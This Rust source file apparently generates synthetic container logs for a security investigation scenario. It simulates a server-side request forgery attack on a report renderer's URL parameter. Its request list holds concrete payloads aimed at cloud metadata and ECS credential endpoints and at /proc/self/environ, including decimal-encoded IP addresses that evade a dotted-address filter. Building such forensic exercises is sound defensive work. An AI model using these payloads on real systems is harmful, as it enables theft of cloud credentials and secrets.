//! What the access log of `reports` shows: forged requests, some of them answered.

use super::super::container_logs::{clock, report_access};
use super::super::flow::Party;
use super::super::traffic::{outside, request};
use super::{API_SOURCE, Story};

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0";

impl Story<'_> {
    /// `/render` fetches what it is told to: first nothing of use, then its own credentials.
    pub(super) fn forged_requests(&mut self) {
        let world = self.world;
        let uuid = self.rng.uuid();
        let path = format!("v2/credentials/{uuid}");
        let escaped = path.replace('/', "%2F");
        let role = "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F";
        // Time, what to fetch, and the answer's status and size. The filter knows
        // an address in dots, but not the same one as a single number.
        let requests: [([i64; 3], String, u16, u64); 9] = [
            ([15, 22, 7], "https%3A%2F%2Fexample.org%2F".into(), 200, 14_210),
            ([15, 24, 31], "http://127.0.0.1:8080/healthz".into(), 403, 61),
            ([15, 26, 10], role.into(), 502, 187),
            (
                [15, 27, 45],
                "http://2852039166/latest/meta-data/".into(),
                502,
                187,
            ),
            (
                [15, 31, 2],
                "file%3A%2F%2F%2Fproc%2Fself%2Fenviron".into(),
                200,
                1_893,
            ),
            ([15, 33, 20], format!("http://169.254.170.2/{path}"), 403, 61),
            (
                [15, 33, 58],
                format!("http%3A%2F%2F169%2E254%2E170%2E2%2F{escaped}"),
                403,
                61,
            ),
            (
                [15, 34, 12],
                format!("http%3A%2F%2F2852039170%2F{escaped}"),
                200,
                1_294,
            ),
            ([15, 36, 40], format!("http://2852039170/{path}"), 200, 1_294),
        ];
        let mut times = Vec::new();
        for ([hour, minute, second], url, status, bytes) in requests {
            let at = world.at(hour, minute, second);
            times.push(at);
            let path = format!("/render?url={url}&format=html");
            let millis = self.rng.size(20, 4);
            let client = API_SOURCE.to_string();
            let mut message = report_access(at, &client, &path, status, bytes, millis, BROWSER);
            self.line(at, message);
            if status == 403 {
                message = format!(
                    "{} WARN  [render] refused by address filter: link-local or loopback host",
                    clock(at)
                );
                self.line(at + 1, message);
            }
            let balancer = Party::Eni(world.load_balancers[0]);
            let mut outer = request(at - 1, outside(API_SOURCE), balancer, 443, &mut self.rng);
            outer.seconds = 2;
            outer.down = bytes + 5_200;
            let task = Party::Eni(world.tasks[self.victim].eni);
            let mut inner = request(at - 1, balancer, task, 8080, &mut self.rng);
            inner.seconds = 1;
            inner.down = bytes + 600;
            self.told.connections.extend([outer, inner]);
        }
        let stream = format!("ecs-reports-{}", world.tasks[self.victim].id);
        self.step(
            "renderer made to fetch role credentials",
            "container_logs",
            (times[2], times[8]),
            &["imds-ssrf-log", "imds-environ-leak"],
            vec![
                ("task_id", world.tasks[self.victim].id.clone()),
                ("log_stream", stream),
                ("client", API_SOURCE.to_string()),
                ("credentials_id", uuid),
            ],
        );
    }
}
